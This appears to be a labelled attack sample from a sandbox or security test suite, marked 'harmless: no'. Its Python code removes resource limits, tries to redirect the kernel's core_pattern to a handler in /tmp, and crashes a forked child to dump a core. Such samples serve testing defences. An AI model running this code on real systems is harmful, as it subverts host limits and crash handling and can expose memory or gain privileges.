# attack: limits are raised and a core with all memory is dumped
# harmless: no
import ctypes
import os
import resource

for limit in (resource.RLIMIT_CORE, resource.RLIMIT_AS, resource.RLIMIT_NPROC):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("no limit", limit)
    except (OSError, ValueError):
        pass
try:
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        file.write("|/tmp/handler")
except OSError:
    pass
ctypes.string_at(0) if os.fork() == 0 else os.wait()
